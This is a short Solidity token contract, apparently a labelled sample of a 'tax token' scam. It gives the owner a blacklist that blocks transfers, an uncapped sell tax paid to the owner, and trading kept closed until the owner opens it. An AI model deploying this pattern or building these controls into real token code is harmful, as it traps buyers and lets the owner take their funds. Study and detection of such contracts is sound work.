// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// The shape of a "tax token" that traps buyers: a blacklist, a sell tax the owner sets, and trading that
// stays shut until the owner opens it.
contract TaxBlacklist {
    uint256 public totalSupply = 1e27;
    address public owner;
    address public pair;
    bool public tradingOpen;
    uint256 public sellTax = 5;
    mapping(address => bool) public isBlacklisted;
    mapping(address => bool) public isExcludedFromFee;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    modifier onlyOwner() {
        require(msg.sender == owner, "not owner");
        _;
    }

    constructor(address pair_) {
        owner = msg.sender;
        pair = pair_;
        balanceOf[msg.sender] = totalSupply;
        isExcludedFromFee[msg.sender] = true;
    }

    function setBlacklist(address account, bool flag) external onlyOwner {
        isBlacklisted[account] = flag;
    }

    function setSellFee(uint256 tax) external onlyOwner {
        sellTax = tax;
    }

    function excludeFromFee(address account) external onlyOwner {
        isExcludedFromFee[account] = true;
    }

    function openTrading() external onlyOwner {
        tradingOpen = true;
    }

    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal {
        require(!isBlacklisted[from], "blacklisted");
        require(tradingOpen || isExcludedFromFee[from], "trading closed");
        uint256 fee = to == pair && !isExcludedFromFee[from] ? (value * sellTax) / 100 : 0;
        balanceOf[from] -= value;
        balanceOf[to] += value - fee;
        balanceOf[owner] += fee;
    }
}
